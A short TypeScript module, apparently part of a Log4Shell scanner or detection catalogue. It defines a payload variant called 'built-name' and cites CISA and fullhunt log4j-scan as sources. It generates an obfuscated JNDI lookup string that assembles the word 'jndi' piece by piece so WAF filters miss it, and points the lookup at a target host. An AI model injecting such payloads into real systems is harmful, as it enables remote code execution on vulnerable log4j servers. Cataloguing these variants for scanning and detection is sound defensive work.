import { afterScheme, disguise } from '../form.ts'

export const builtName = disguise(
  {
    id: 'built-name',
    summary: 'the name of the inner lookup is itself built',
    firesOn: ['C'],
    seenIn: ['CISA log4j-scan waf23', 'fullhunt log4j-scan waf23'],
  },
  (target) => `\${j\${\${:-l}\${:-o}\${:-w}\${:-e}\${:-r}:n}di:${target.scheme}:${afterScheme(target)}}`,
)
